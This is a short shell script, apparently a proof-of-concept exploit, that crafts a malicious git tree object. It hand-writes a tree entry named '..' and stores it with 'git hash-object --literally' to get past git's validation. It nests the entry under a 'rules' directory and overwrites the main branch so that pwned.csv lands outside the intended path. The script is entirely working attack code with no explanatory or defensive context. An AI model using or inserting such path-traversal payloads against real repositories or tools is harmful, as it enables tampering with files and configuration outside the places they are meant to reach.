file=$(printf 'role,source\n' | git hash-object -w --stdin)
climb=$(printf '100644 blob %s\tpwned.csv\n' "$file" | git mktree)
printf "40000 ..\\0" >tree
printf "$(sed 's/../\\x&/g' <<<"$climb")" >>tree
bad=$(git hash-object -w -t tree --literally tree)
rm tree
top=$( (git ls-tree HEAD:rules; printf '040000 tree %s\tmore\n' "$bad") | git mktree)
top=$(printf '040000 tree %s\trules\n' "$top" | git mktree)
git update-ref refs/heads/main "$(git commit-tree -m climb "$top")"
